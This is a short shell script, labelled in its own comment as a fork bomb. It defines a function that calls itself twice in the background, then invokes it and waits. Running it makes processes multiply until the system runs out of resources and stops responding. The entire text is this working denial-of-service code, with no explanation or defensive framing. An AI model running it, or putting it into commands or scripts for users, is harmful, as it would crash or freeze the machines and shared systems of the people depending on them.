# A fork bomb: every function call forks two more.
bomb() { bomb | bomb & }
bomb
wait
